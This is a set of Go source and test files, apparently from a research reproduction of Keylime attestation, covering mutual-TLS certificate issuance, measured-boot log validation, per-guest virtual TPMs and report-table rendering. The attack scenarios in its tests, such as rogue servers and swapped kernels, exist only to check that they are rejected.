	sn, err := rand.Int(a.rng, new(big.Int).Lsh(big.NewInt(1), 120))
	if err != nil {
		return Identity{}, fmt.Errorf("tlsutil: generating serial: %w", err)
	}
	tmpl := &x509.Certificate{
		SerialNumber: sn,
		Subject:      pkix.Name{CommonName: name, Organization: []string{"repro"}},
		NotBefore:    time.Now().Add(-time.Hour),
		NotAfter:     time.Now().Add(5 * 365 * 24 * time.Hour),
		KeyUsage:     x509.KeyUsageDigitalSignature,
	}
	if server {
		tmpl.ExtKeyUsage = []x509.ExtKeyUsage{x509.ExtKeyUsageServerAuth}
		for _, h := range hosts {
			if ip := net.ParseIP(h); ip != nil {
				tmpl.IPAddresses = append(tmpl.IPAddresses, ip)
			} else {
				tmpl.DNSNames = append(tmpl.DNSNames, h)
			}
		}
	} else {
		tmpl.ExtKeyUsage = []x509.ExtKeyUsage{x509.ExtKeyUsageClientAuth}
	}
	der, err := x509.CreateCertificate(a.rng, tmpl, a.cert, &key.PublicKey, a.key)
	if err != nil {
		return Identity{}, fmt.Errorf("tlsutil: signing %s: %w", name, err)
	}
	leaf, err := x509.ParseCertificate(der)
	if err != nil {
		return Identity{}, fmt.Errorf("tlsutil: parsing %s: %w", name, err)
	}
	return Identity{
		Cert: tls.Certificate{Certificate: [][]byte{der}, PrivateKey: key, Leaf: leaf},
		Leaf: leaf,
	}, nil
}

// IssueServer creates a server identity valid for the given hosts
// (DNS names or IPs; 127.0.0.1 and localhost are always included).
func (a *Authority) IssueServer(name string, hosts ...string) (Identity, error) {
	hosts = append(hosts, "127.0.0.1", "::1", "localhost")
	return a.issue(name, true, hosts)
}

// IssueClient creates a client identity.
func (a *Authority) IssueClient(name string) (Identity, error) {
	return a.issue(name, false, nil)
}

// ServerConfig builds a TLS config that presents the server identity and
// REQUIRES client certificates chained to the deployment CA (mutual TLS).
func (a *Authority) ServerConfig(id Identity) *tls.Config {
	return &tls.Config{
		Certificates: []tls.Certificate{id.Cert},
		ClientAuth:   tls.RequireAndVerifyClientCert,
		ClientCAs:    a.Pool(),
		MinVersion:   tls.VersionTLS12,
	}
}

// ClientConfig builds a TLS config that presents the client identity and
// verifies servers against the deployment CA.
func (a *Authority) ClientConfig(id Identity) *tls.Config {
	return &tls.Config{
		Certificates: []tls.Certificate{id.Cert},
		RootCAs:      a.Pool(),
		MinVersion:   tls.VersionTLS12,
	}
}
