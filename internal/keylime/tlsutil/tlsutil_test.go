package tlsutil

import (
	"crypto/rand"
	"crypto/tls"
	"errors"
	"io"
	"net/http"
	"net/http/httptest"
	"testing"

	"repro/internal/keylime/agent"
	"repro/internal/keylime/registrar"
	"repro/internal/machine"
	"repro/internal/tpm"
)

func newAuthority(t *testing.T) *Authority {
	t.Helper()
	a, err := NewAuthority(rand.Reader)
	if err != nil {
		t.Fatalf("NewAuthority: %v", err)
	}
	return a
}

// newMTLSServer wraps a handler in a mutual-TLS httptest server.
func newMTLSServer(t *testing.T, a *Authority, h http.Handler) *httptest.Server {
	t.Helper()
	id, err := a.IssueServer("registrar")
	if err != nil {
		t.Fatalf("IssueServer: %v", err)
	}
	srv := httptest.NewUnstartedServer(h)
	srv.TLS = a.ServerConfig(id)
	srv.StartTLS()
	t.Cleanup(srv.Close)
	return srv
}

func clientWith(t *testing.T, cfg *tls.Config) *http.Client {
	t.Helper()
	return &http.Client{Transport: &http.Transport{TLSClientConfig: cfg}}
}

func TestMutualTLSRoundTrip(t *testing.T) {
	a := newAuthority(t)
	srv := newMTLSServer(t, a, http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		if len(r.TLS.PeerCertificates) == 0 {
			http.Error(w, "no client cert", http.StatusForbidden)
			return
		}
		_, _ = io.WriteString(w, r.TLS.PeerCertificates[0].Subject.CommonName)
	}))
	clientID, err := a.IssueClient("verifier")
	if err != nil {
		t.Fatalf("IssueClient: %v", err)
	}
	c := clientWith(t, a.ClientConfig(clientID))
	resp, err := c.Get(srv.URL)
	if err != nil {
		t.Fatalf("GET: %v", err)
	}
	defer func() { _ = resp.Body.Close() }()
	body, _ := io.ReadAll(resp.Body)
	if string(body) != "verifier" {
		t.Fatalf("server saw client CN %q, want verifier", body)
	}
}

func TestServerRejectsClientWithoutCert(t *testing.T) {
	a := newAuthority(t)
	srv := newMTLSServer(t, a, http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {}))
	// Client trusts the CA but presents no certificate.
	c := clientWith(t, &tls.Config{RootCAs: a.Pool(), MinVersion: tls.VersionTLS12})
	if _, err := c.Get(srv.URL); err == nil {
		t.Fatal("request without client certificate succeeded")
	}
}

func TestServerRejectsForeignClientCert(t *testing.T) {
	a := newAuthority(t)
	srv := newMTLSServer(t, a, http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {}))
	other := newAuthority(t)
	foreignID, err := other.IssueClient("intruder")
	if err != nil {
		t.Fatalf("IssueClient: %v", err)
	}
	cfg := other.ClientConfig(foreignID)
	cfg.RootCAs = a.Pool() // trusts the right server, presents wrong client cert
	c := clientWith(t, cfg)
	if _, err := c.Get(srv.URL); err == nil {
		t.Fatal("request with foreign client certificate succeeded")
	}
}

func TestClientRejectsForeignServer(t *testing.T) {
	a := newAuthority(t)
	rogue := newAuthority(t)
	srv := newMTLSServer(t, rogue, http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {}))
	id, err := a.IssueClient("verifier")
	if err != nil {
		t.Fatalf("IssueClient: %v", err)
	}
	c := clientWith(t, a.ClientConfig(id))
	if _, err := c.Get(srv.URL); err == nil {
		t.Fatal("connection to rogue server succeeded")
	}
}

func TestIssueRequiresName(t *testing.T) {
	a := newAuthority(t)
	if _, err := a.IssueClient(""); !errors.Is(err, ErrBadName) {
		t.Fatalf("err = %v, want ErrBadName", err)
	}
}

func TestRegistrarOverMutualTLS(t *testing.T) {
	// A full component flow over mTLS: the agent registers with a
	// registrar that only accepts mutually authenticated connections.
	deployCA := newAuthority(t)
	mfrCA, err := tpm.NewManufacturerCA(rand.Reader)
	if err != nil {
		t.Fatalf("NewManufacturerCA: %v", err)
	}
	reg := registrar.New(mfrCA.Pool())
	srv := newMTLSServer(t, deployCA, reg.Handler())

	agentID, err := deployCA.IssueClient("agent-host")
	if err != nil {
		t.Fatalf("IssueClient: %v", err)
	}
	c := clientWith(t, deployCA.ClientConfig(agentID))
	// Probe the API through mTLS (unknown agent -> 404 proves we reached
	// the handler through the authenticated channel).
	resp, err := c.Get(srv.URL + "/v2/agents/ghost")
	if err != nil {
		t.Fatalf("GET over mTLS: %v", err)
	}
	defer func() { _ = resp.Body.Close() }()
	if resp.StatusCode != http.StatusNotFound {
		t.Fatalf("status = %d, want 404 from registrar handler", resp.StatusCode)
	}
}

func TestAgentRegistrationOverMutualTLS(t *testing.T) {
	deployCA := newAuthority(t)
	mfrCA, err := tpm.NewManufacturerCA(rand.Reader)
	if err != nil {
		t.Fatalf("NewManufacturerCA: %v", err)
	}
	m, err := machine.New(mfrCA, machine.WithTPMOptions(tpm.WithEKBits(1024)))
	if err != nil {
		t.Fatalf("New machine: %v", err)
	}
	reg := registrar.New(mfrCA.Pool())
	srv := newMTLSServer(t, deployCA, reg.Handler())

	agentTLS, err := deployCA.IssueClient("agent-host")
	if err != nil {
		t.Fatalf("IssueClient: %v", err)
	}
	ag := agent.New(m, agent.WithHTTPClient(clientWith(t, deployCA.ClientConfig(agentTLS))))
	if err := ag.Register(srv.URL, "https://agent:8892"); err != nil {
		t.Fatalf("Register over mTLS: %v", err)
	}
	info, err := reg.Agent(m.UUID())
	if err != nil {
		t.Fatalf("Agent: %v", err)
	}
	if !info.Active {
		t.Fatal("agent not active after mTLS registration")
	}
}
