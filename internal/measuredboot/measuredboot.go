// Package measuredboot models measured boot attestation — the part of the
// chain of trust that runs before IMA picks up (paper §II). Firmware,
// bootloader and kernel are measured into TPM PCRs 0 and 4 as a boot event
// log; a verifier replays the log against quoted PCR values and compares
// them to operator-supplied golden values, detecting bootloader/kernel
// substitution that file-level attestation alone cannot see.
package measuredboot

import (
	"crypto/sha256"
	"errors"
	"fmt"

	"repro/internal/tpm"
)

// EventType classifies a boot measurement event (reduced from the TCG
// PC-client event types).
type EventType int

// Event types.
const (
	// EventFirmware covers platform firmware volumes (PCR 0).
	EventFirmware EventType = iota + 1
	// EventBootLoader covers the bootloader binary (PCR 4).
	EventBootLoader
	// EventKernel covers the booted kernel image (PCR 4).
	EventKernel
	// EventKernelCmdline covers the kernel command line (PCR 4).
	EventKernelCmdline
)

var eventTypeNames = map[EventType]string{
	EventFirmware:      "EV_FIRMWARE",
	EventBootLoader:    "EV_BOOT_LOADER",
	EventKernel:        "EV_KERNEL",
	EventKernelCmdline: "EV_KERNEL_CMDLINE",
}

// String returns the event type label.
func (t EventType) String() string {
	if n, ok := eventTypeNames[t]; ok {
		return n
	}
	return fmt.Sprintf("event(%d)", int(t))
}

// Event is one boot measurement.
type Event struct {
	PCR         int
	Type        EventType
	Description string
	Digest      tpm.Digest
}

// Log is the ordered boot event log.
type Log []Event

// Errors.
var (
	ErrGoldenMismatch = errors.New("measuredboot: PCR does not match golden value")
	ErrReplayMismatch = errors.New("measuredboot: event log replay does not match quoted PCR")
)

// PCRs used by measured boot in this model.
const (
	PCRFirmware = 0
	PCRBoot     = 4
)

// Replay folds the log into per-PCR aggregates (from zeroed PCRs).
func (l Log) Replay() map[int]tpm.Digest {
	out := map[int]tpm.Digest{}
	for _, e := range l {
		prev := out[e.PCR]
		h := sha256.New()
		h.Write(prev[:])
		h.Write(e.Digest[:])
		var next tpm.Digest
		copy(next[:], h.Sum(nil))
		out[e.PCR] = next
	}
	return out
}

// Extend writes the log's measurements into a PCR bank (what firmware and
// bootloader do at boot).
func (l Log) Extend(bank *tpm.PCRBank) error {
	for _, e := range l {
		if err := bank.Extend(e.PCR, e.Digest); err != nil {
			return fmt.Errorf("measuredboot: extending PCR %d: %w", e.PCR, err)
		}
	}
	return nil
}

// FirmwareDigest derives the measurement of a firmware build.
func FirmwareDigest(version string) tpm.Digest {
	return sha256.Sum256([]byte("firmware:" + version))
}

// BootLoaderDigest derives the measurement of a bootloader build.
func BootLoaderDigest(version string) tpm.Digest {
	return sha256.Sum256([]byte("bootloader:" + version))
}

// KernelDigest derives the measurement of a kernel image.
func KernelDigest(version string) tpm.Digest {
	return sha256.Sum256([]byte("kernel:" + version))
}

// CmdlineDigest derives the measurement of the kernel command line.
func CmdlineDigest(cmdline string) tpm.Digest {
	return sha256.Sum256([]byte("cmdline:" + cmdline))
}

// BuildLog assembles the canonical boot chain for a platform: firmware into
// PCR 0; bootloader, kernel and command line into PCR 4.
func BuildLog(firmwareVer, bootloaderVer, kernelVer, cmdline string) Log {
	return Log{
		{PCR: PCRFirmware, Type: EventFirmware, Description: "firmware " + firmwareVer, Digest: FirmwareDigest(firmwareVer)},
		{PCR: PCRBoot, Type: EventBootLoader, Description: "bootloader " + bootloaderVer, Digest: BootLoaderDigest(bootloaderVer)},
		{PCR: PCRBoot, Type: EventKernel, Description: "kernel " + kernelVer, Digest: KernelDigest(kernelVer)},
		{PCR: PCRBoot, Type: EventKernelCmdline, Description: "cmdline", Digest: CmdlineDigest(cmdline)},
	}
}

// Golden holds the operator's expected post-boot PCR values (the measured
// boot reference state).
type Golden map[int]tpm.Digest

// GoldenFromLog computes the reference state an intact boot of this chain
// produces.
func GoldenFromLog(l Log) Golden {
	return Golden(l.Replay())
}

// Validate checks a boot event log against quoted PCR values and the golden
// reference state:
//
//  1. the log must replay to the quoted PCR values (log integrity);
//  2. the quoted values must match the golden values (boot-chain identity).
func (g Golden) Validate(l Log, quoted map[int]tpm.Digest) error {
	replayed := l.Replay()
	for pcr, want := range replayed {
		got, ok := quoted[pcr]
		if !ok || got != want {
			return fmt.Errorf("%w: PCR %d", ErrReplayMismatch, pcr)
		}
	}
	for pcr, want := range g {
		got, ok := quoted[pcr]
		if !ok || got != want {
			return fmt.Errorf("%w: PCR %d", ErrGoldenMismatch, pcr)
		}
	}
	return nil
}
