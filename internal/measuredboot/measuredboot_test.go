package measuredboot

import (
	"errors"
	"testing"
	"testing/quick"

	"repro/internal/tpm"
)

func TestBuildLogShape(t *testing.T) {
	l := BuildLog("fw-1", "grub-2.06", "5.15.0-100-generic", "ro quiet")
	if len(l) != 4 {
		t.Fatalf("log has %d events, want 4", len(l))
	}
	if l[0].PCR != PCRFirmware || l[0].Type != EventFirmware {
		t.Fatalf("first event = %+v, want firmware in PCR 0", l[0])
	}
	for _, e := range l[1:] {
		if e.PCR != PCRBoot {
			t.Fatalf("event %v in PCR %d, want PCR 4", e.Type, e.PCR)
		}
	}
}

func TestReplayMatchesExtend(t *testing.T) {
	l := BuildLog("fw-1", "grub-2.06", "5.15.0-100-generic", "ro")
	var bank tpm.PCRBank
	if err := l.Extend(&bank); err != nil {
		t.Fatalf("Extend: %v", err)
	}
	replayed := l.Replay()
	for _, pcr := range []int{PCRFirmware, PCRBoot} {
		want, _ := bank.Read(pcr)
		if replayed[pcr] != want {
			t.Fatalf("replay PCR %d = %x, bank has %x", pcr, replayed[pcr], want)
		}
	}
}

func TestGoldenValidateAccepts(t *testing.T) {
	l := BuildLog("fw-1", "grub-2.06", "5.15.0-100-generic", "ro")
	golden := GoldenFromLog(l)
	quoted := l.Replay()
	if err := golden.Validate(l, quoted); err != nil {
		t.Fatalf("Validate: %v", err)
	}
}

func TestGoldenValidateRejectsKernelSwap(t *testing.T) {
	good := BuildLog("fw-1", "grub-2.06", "5.15.0-100-generic", "ro")
	golden := GoldenFromLog(good)
	// The machine actually booted a different (malicious) kernel.
	evil := BuildLog("fw-1", "grub-2.06", "5.15.0-evil", "ro")
	quoted := evil.Replay()
	if err := golden.Validate(evil, quoted); !errors.Is(err, ErrGoldenMismatch) {
		t.Fatalf("Validate = %v, want ErrGoldenMismatch", err)
	}
}

func TestGoldenValidateRejectsDoctoredLog(t *testing.T) {
	good := BuildLog("fw-1", "grub-2.06", "5.15.0-100-generic", "ro")
	golden := GoldenFromLog(good)
	// The attacker booted an evil kernel but reports the benign log; the
	// quoted PCRs tell the truth.
	evil := BuildLog("fw-1", "grub-2.06", "5.15.0-evil", "ro")
	quoted := evil.Replay()
	if err := golden.Validate(good, quoted); !errors.Is(err, ErrReplayMismatch) {
		t.Fatalf("Validate = %v, want ErrReplayMismatch", err)
	}
}

func TestGoldenValidateRejectsMissingPCR(t *testing.T) {
	l := BuildLog("fw-1", "grub-2.06", "k", "ro")
	golden := GoldenFromLog(l)
	quoted := l.Replay()
	delete(quoted, PCRBoot)
	if err := golden.Validate(l, quoted); err == nil {
		t.Fatal("Validate accepted quote missing PCR 4")
	}
}

func TestDigestsDistinct(t *testing.T) {
	seen := map[tpm.Digest]string{}
	for name, d := range map[string]tpm.Digest{
		"fw":      FirmwareDigest("v"),
		"boot":    BootLoaderDigest("v"),
		"kernel":  KernelDigest("v"),
		"cmdline": CmdlineDigest("v"),
	} {
		if prev, dup := seen[d]; dup {
			t.Fatalf("digest collision between %s and %s", prev, name)
		}
		seen[d] = name
	}
}

// Property: any change to any boot component changes the golden state.
func TestGoldenSensitivityProperty(t *testing.T) {
	base := GoldenFromLog(BuildLog("fw", "bl", "k", "c"))
	f := func(which uint8, suffix string) bool {
		fw, bl, k, c := "fw", "bl", "k", "c"
		if suffix == "" {
			return true
		}
		switch which % 4 {
		case 0:
			fw += suffix
		case 1:
			bl += suffix
		case 2:
			k += suffix
		case 3:
			c += suffix
		}
		other := GoldenFromLog(BuildLog(fw, bl, k, c))
		return other[PCRFirmware] != base[PCRFirmware] || other[PCRBoot] != base[PCRBoot]
	}
	if err := quick.Check(f, &quick.Config{MaxCount: 40}); err != nil {
		t.Fatal(err)
	}
}

func TestEventTypeStrings(t *testing.T) {
	for _, et := range []EventType{EventFirmware, EventBootLoader, EventKernel, EventKernelCmdline} {
		if et.String() == "" || et.String()[:3] != "EV_" {
			t.Fatalf("EventType %d string = %q", et, et.String())
		}
	}
}
