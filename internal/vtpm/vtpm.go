// Package vtpm implements a virtual TPM host for virtual machines, modeled
// on the ephemeral-vTPM design the paper cites (§II, "a recent work uses
// Keylime to build a virtual trusted platform module that virtualizes the
// hardware root of trust for virtual machines' remote attestation").
//
// The host owns a hardware-rooted intermediate CA: its signing key is
// certified by the TPM manufacturer-style root, and each guest VM receives
// its own software TPM whose EK certificate is issued by that intermediate.
// A registrar that trusts the manufacturer root can verify a guest EK by
// walking the chain guest-EK -> host-intermediate -> root, so guests attest
// exactly like physical machines — including the credential-activation
// step — without sharing TPM state with each other.
package vtpm

import (
	"crypto/ecdsa"
	"crypto/elliptic"
	"crypto/rand"
	"crypto/x509"
	"crypto/x509/pkix"
	"errors"
	"fmt"
	"io"
	"math/big"
	"sync"
	"time"

	"repro/internal/tpm"
)

// Errors.
var (
	ErrDuplicateGuest = errors.New("vtpm: guest already has a vTPM")
	ErrUnknownGuest   = errors.New("vtpm: unknown guest")
)

// Host multiplexes per-guest virtual TPMs. Construct with NewHost.
type Host struct {
	interKey  *ecdsa.PrivateKey
	interCert *x509.Certificate
	rng       io.Reader
	ekBits    int

	mu     sync.Mutex
	guests map[string]*tpm.TPM
}

// HostOption configures the host.
type HostOption interface{ apply(*Host) }

type hostOptionFunc func(*Host)

func (f hostOptionFunc) apply(h *Host) { f(h) }

// WithGuestEKBits sets the RSA key size of guest endorsement keys (tests
// use 1024 for speed).
func WithGuestEKBits(bits int) HostOption {
	return hostOptionFunc(func(h *Host) { h.ekBits = bits })
}

// WithRand sets the randomness source.
func WithRand(r io.Reader) HostOption {
	return hostOptionFunc(func(h *Host) { h.rng = r })
}

// NewHost creates a vTPM host whose intermediate CA is certified by the
// given manufacturer-style root (the hardware root of trust).
func NewHost(root *tpm.ManufacturerCA, hostName string, opts ...HostOption) (*Host, error) {
	h := &Host{rng: rand.Reader, ekBits: 2048, guests: make(map[string]*tpm.TPM)}
	for _, opt := range opts {
		opt.apply(h)
	}
	key, err := ecdsa.GenerateKey(elliptic.P256(), h.rng)
	if err != nil {
		return nil, fmt.Errorf("vtpm: generating intermediate key: %w", err)
	}
	sn, err := rand.Int(h.rng, new(big.Int).Lsh(big.NewInt(1), 120))
	if err != nil {
		return nil, fmt.Errorf("vtpm: generating serial: %w", err)
	}
	tmpl := &x509.Certificate{
		SerialNumber:          sn,
		Subject:               pkix.Name{CommonName: "vTPM host " + hostName, Organization: []string{"repro"}},
		NotBefore:             time.Date(2020, 1, 1, 0, 0, 0, 0, time.UTC),
		NotAfter:              time.Date(2040, 1, 1, 0, 0, 0, 0, time.UTC),
		IsCA:                  true,
		MaxPathLen:            0,
		MaxPathLenZero:        true,
		KeyUsage:              x509.KeyUsageCertSign,
		BasicConstraintsValid: true,
	}
	der, err := root.SignIntermediate(h.rng, tmpl, &key.PublicKey)
	if err != nil {
		return nil, fmt.Errorf("vtpm: certifying intermediate: %w", err)
	}
	cert, err := x509.ParseCertificate(der)
	if err != nil {
		return nil, fmt.Errorf("vtpm: parsing intermediate cert: %w", err)
	}
	h.interKey = key
	h.interCert = cert
	return h, nil
}

// IntermediateCert returns the host CA certificate (DER) that guest EK
// chains include.
func (h *Host) IntermediateCert() []byte {
	return append([]byte(nil), h.interCert.Raw...)
}

// CreateGuestTPM provisions a fresh vTPM for the named guest VM. The
// returned TPM behaves exactly like a hardware one; its EK certificate is
// signed by the host intermediate.
func (h *Host) CreateGuestTPM(guestID string) (*tpm.TPM, error) {
	h.mu.Lock()
	if _, exists := h.guests[guestID]; exists {
		h.mu.Unlock()
		return nil, fmt.Errorf("%w: %s", ErrDuplicateGuest, guestID)
	}
	h.mu.Unlock()
	ca := &tpm.ManufacturerCA{}
	ca.SetKeyPair(h.interKey, h.interCert)
	dev, err := tpm.New(ca,
		tpm.WithRand(h.rng),
		tpm.WithEKBits(h.ekBits),
		tpm.WithSerial("VTPM-"+guestID),
		tpm.WithEKIntermediates(h.interCert.Raw),
	)
	if err != nil {
		return nil, fmt.Errorf("vtpm: provisioning guest %s: %w", guestID, err)
	}
	h.mu.Lock()
	h.guests[guestID] = dev
	h.mu.Unlock()
	return dev, nil
}

// GuestTPM returns an existing guest vTPM.
func (h *Host) GuestTPM(guestID string) (*tpm.TPM, error) {
	h.mu.Lock()
	defer h.mu.Unlock()
	dev, ok := h.guests[guestID]
	if !ok {
		return nil, fmt.Errorf("%w: %s", ErrUnknownGuest, guestID)
	}
	return dev, nil
}

// DestroyGuestTPM drops a guest's vTPM (VM teardown). Ephemeral vTPM state
// disappears with the VM.
func (h *Host) DestroyGuestTPM(guestID string) error {
	h.mu.Lock()
	defer h.mu.Unlock()
	if _, ok := h.guests[guestID]; !ok {
		return fmt.Errorf("%w: %s", ErrUnknownGuest, guestID)
	}
	delete(h.guests, guestID)
	return nil
}

// GuestCount reports the number of provisioned vTPMs.
func (h *Host) GuestCount() int {
	h.mu.Lock()
	defer h.mu.Unlock()
	return len(h.guests)
}
