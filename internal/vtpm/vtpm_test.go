package vtpm

import (
	"crypto/rand"
	"errors"
	"net/http/httptest"
	"testing"

	"repro/internal/core"
	"repro/internal/keylime/agent"
	"repro/internal/keylime/registrar"
	"repro/internal/keylime/verifier"
	"repro/internal/machine"
	"repro/internal/tpm"
	"repro/internal/vfs"
)

func newHost(t *testing.T) (*tpm.ManufacturerCA, *Host) {
	t.Helper()
	root, err := tpm.NewManufacturerCA(rand.Reader)
	if err != nil {
		t.Fatalf("NewManufacturerCA: %v", err)
	}
	h, err := NewHost(root, "hv-01", WithGuestEKBits(1024))
	if err != nil {
		t.Fatalf("NewHost: %v", err)
	}
	return root, h
}

func TestGuestEKChainsToManufacturerRoot(t *testing.T) {
	root, h := newHost(t)
	dev, err := h.CreateGuestTPM("vm-1")
	if err != nil {
		t.Fatalf("CreateGuestTPM: %v", err)
	}
	// Direct verification fails (the leaf is signed by the intermediate).
	if _, err := tpm.VerifyEKCert(dev.EKCertificate(), root.Pool()); err == nil {
		t.Fatal("guest EK verified without intermediates")
	}
	// With the presented chain it verifies.
	if _, err := tpm.VerifyEKCertChain(dev.EKCertificate(), dev.EKIntermediates(), root.Pool()); err != nil {
		t.Fatalf("VerifyEKCertChain: %v", err)
	}
}

func TestGuestLifecycle(t *testing.T) {
	_, h := newHost(t)
	if _, err := h.CreateGuestTPM("vm-1"); err != nil {
		t.Fatalf("CreateGuestTPM: %v", err)
	}
	if _, err := h.CreateGuestTPM("vm-1"); !errors.Is(err, ErrDuplicateGuest) {
		t.Fatalf("duplicate guest: %v, want ErrDuplicateGuest", err)
	}
	if _, err := h.GuestTPM("vm-1"); err != nil {
		t.Fatalf("GuestTPM: %v", err)
	}
	if h.GuestCount() != 1 {
		t.Fatalf("GuestCount = %d, want 1", h.GuestCount())
	}
	if err := h.DestroyGuestTPM("vm-1"); err != nil {
		t.Fatalf("DestroyGuestTPM: %v", err)
	}
	if _, err := h.GuestTPM("vm-1"); !errors.Is(err, ErrUnknownGuest) {
		t.Fatalf("after destroy: %v, want ErrUnknownGuest", err)
	}
	if err := h.DestroyGuestTPM("vm-1"); !errors.Is(err, ErrUnknownGuest) {
		t.Fatalf("double destroy: %v, want ErrUnknownGuest", err)
	}
}

func TestGuestsAreIsolated(t *testing.T) {
	_, h := newHost(t)
	a, err := h.CreateGuestTPM("vm-a")
	if err != nil {
		t.Fatalf("CreateGuestTPM: %v", err)
	}
	b, err := h.CreateGuestTPM("vm-b")
	if err != nil {
		t.Fatalf("CreateGuestTPM: %v", err)
	}
	// Extending one guest's PCRs must not affect the other's.
	if err := a.PCRs().Extend(tpm.PCRIMA, tpm.Digest{1}); err != nil {
		t.Fatalf("Extend: %v", err)
	}
	av, _ := a.PCRs().Read(tpm.PCRIMA)
	bv, _ := b.PCRs().Read(tpm.PCRIMA)
	if av == bv {
		t.Fatal("guest PCR state shared between vTPMs")
	}
}

func TestGuestVMFullAttestationFlow(t *testing.T) {
	// End to end: a VM with a vTPM registers (EK chain through the host
	// intermediate), and the verifier attests it like a physical node.
	root, h := newHost(t)
	dev, err := h.CreateGuestTPM("vm-1")
	if err != nil {
		t.Fatalf("CreateGuestTPM: %v", err)
	}
	m, err := machine.New(nil,
		machine.WithTPMDevice(dev),
		machine.WithUUID("e532fbb3-d2f1-4a97-9ef7-75bd81c00042"),
		machine.WithHostname("vm-1"),
	)
	if err != nil {
		t.Fatalf("New machine: %v", err)
	}
	if err := m.WriteFile("/usr/bin/tool", []byte("\x7fELF tool"), vfs.ModeExecutable); err != nil {
		t.Fatalf("WriteFile: %v", err)
	}

	reg := registrar.New(root.Pool())
	regSrv := httptest.NewServer(reg.Handler())
	defer regSrv.Close()
	ag := agent.New(m)
	agSrv := httptest.NewServer(ag.Handler())
	defer agSrv.Close()
	if err := ag.Register(regSrv.URL, agSrv.URL); err != nil {
		t.Fatalf("Register (vTPM chain): %v", err)
	}

	pol, err := core.SnapshotPolicy(m.FS(), nil)
	if err != nil {
		t.Fatalf("SnapshotPolicy: %v", err)
	}
	v := verifier.New(regSrv.URL)
	if err := v.AddAgent(m.UUID(), agSrv.URL, pol); err != nil {
		t.Fatalf("AddAgent: %v", err)
	}
	if err := m.Exec("/usr/bin/tool"); err != nil {
		t.Fatalf("Exec: %v", err)
	}
	res, err := v.AttestOnce(t.Context(), m.UUID())
	if err != nil {
		t.Fatalf("AttestOnce: %v", err)
	}
	if res.Failure != nil {
		t.Fatalf("guest attestation failed: %+v", res.Failure)
	}
	if res.VerifiedEntries != 2 {
		t.Fatalf("VerifiedEntries = %d, want 2", res.VerifiedEntries)
	}
}

func TestForeignHostIntermediateRejected(t *testing.T) {
	// A guest provisioned by a host whose intermediate chains to a
	// DIFFERENT root must be rejected by the registrar.
	_, h := newHost(t)
	otherRoot, err := tpm.NewManufacturerCA(rand.Reader)
	if err != nil {
		t.Fatalf("NewManufacturerCA: %v", err)
	}
	dev, err := h.CreateGuestTPM("vm-evil")
	if err != nil {
		t.Fatalf("CreateGuestTPM: %v", err)
	}
	reg := registrar.New(otherRoot.Pool())
	akPub, err := dev.CreateAK()
	if err != nil {
		t.Fatalf("CreateAK: %v", err)
	}
	if _, err := reg.RegisterWithChain("vm-evil", dev.EKCertificate(), dev.EKIntermediates(), akPub, ""); err == nil {
		t.Fatal("registrar accepted guest chained to a foreign root")
	}
}
