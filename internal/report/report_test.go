package report

import (
	"math"
	"strings"
	"testing"
	"testing/quick"
)

func TestTableRenderAlignment(t *testing.T) {
	tbl := &Table{
		Title:   "Demo",
		Headers: []string{"Name", "Value"},
	}
	tbl.AddRow("short", "1")
	tbl.AddRow("a-much-longer-name", "22")
	out := tbl.Render()
	lines := strings.Split(strings.TrimRight(out, "\n"), "\n")
	// Title, underline, header, separator, 2 rows.
	if len(lines) != 6 {
		t.Fatalf("lines = %d:\n%s", len(lines), out)
	}
	if !strings.HasPrefix(lines[0], "Demo") {
		t.Fatalf("title line = %q", lines[0])
	}
	// The value column must start at the same offset in both rows.
	iShort := strings.Index(lines[4], "1")
	iLong := strings.Index(lines[5], "22")
	if iShort != iLong {
		t.Fatalf("columns misaligned:\n%s", out)
	}
}

func TestTableRenderUnicodeWidths(t *testing.T) {
	tbl := &Table{Headers: []string{"Sym", "X"}}
	tbl.AddRow("✓*", "a")
	tbl.AddRow("✗", "b")
	out := tbl.Render()
	lines := strings.Split(strings.TrimRight(out, "\n"), "\n")
	ia := strings.Index(lines[2], "a")
	ib := strings.Index(lines[3], "b")
	// Byte offsets differ for multi-byte runes; rune offsets must match.
	ra := len([]rune(lines[2][:ia]))
	rb := len([]rune(lines[3][:ib]))
	if ra != rb {
		t.Fatalf("unicode columns misaligned:\n%s", out)
	}
}

func TestSeriesRenderStats(t *testing.T) {
	s := &Series{Title: "T", YLabel: "minutes"}
	s.Add("day 1", 1)
	s.Add("day 2", 3)
	out := s.Render()
	if !strings.Contains(out, "mean=2.00") {
		t.Fatalf("mean missing:\n%s", out)
	}
	if !strings.Contains(out, "stddev=1.00") {
		t.Fatalf("stddev missing:\n%s", out)
	}
	if !strings.Contains(out, "n=2") {
		t.Fatalf("count missing:\n%s", out)
	}
}

func TestSeriesRenderEmptyAndZero(t *testing.T) {
	s := &Series{Title: "empty", YLabel: "y"}
	if out := s.Render(); !strings.Contains(out, "n=0") {
		t.Fatalf("empty series render:\n%s", out)
	}
	z := &Series{Title: "zeros", YLabel: "y"}
	z.Add("a", 0)
	if out := z.Render(); !strings.Contains(out, "n=1") {
		t.Fatalf("zero series render:\n%s", out)
	}
}

func TestStatsHelpers(t *testing.T) {
	xs := []float64{2, 4, 4, 4, 5, 5, 7, 9}
	if m := Mean(xs); m != 5 {
		t.Fatalf("Mean = %v", m)
	}
	if sd := StdDev(xs); math.Abs(sd-2) > 1e-9 {
		t.Fatalf("StdDev = %v, want 2", sd)
	}
	if mn := Min(xs); mn != 2 {
		t.Fatalf("Min = %v", mn)
	}
	if mx := Max(xs); mx != 9 {
		t.Fatalf("Max = %v", mx)
	}
	if Mean(nil) != 0 || StdDev(nil) != 0 || Min(nil) != 0 || Max(nil) != 0 {
		t.Fatal("empty-input stats should be 0")
	}
}

// Property: Min <= Mean <= Max for any non-empty input.
func TestStatsOrderingProperty(t *testing.T) {
	f := func(raw []int16) bool {
		if len(raw) == 0 {
			return true
		}
		xs := make([]float64, len(raw))
		for i, v := range raw {
			xs[i] = float64(v)
		}
		m := Mean(xs)
		return Min(xs) <= m && m <= Max(xs) && StdDev(xs) >= 0
	}
	if err := quick.Check(f, nil); err != nil {
		t.Fatal(err)
	}
}
