// Package report renders experiment results as aligned ASCII tables and
// simple bar-chart series, used by cmd/repro and EXPERIMENTS.md.
package report

import (
	"fmt"
	"math"
	"strings"
)

// Table is a titled grid.
type Table struct {
	Title   string
	Headers []string
	Rows    [][]string
}

// AddRow appends one row.
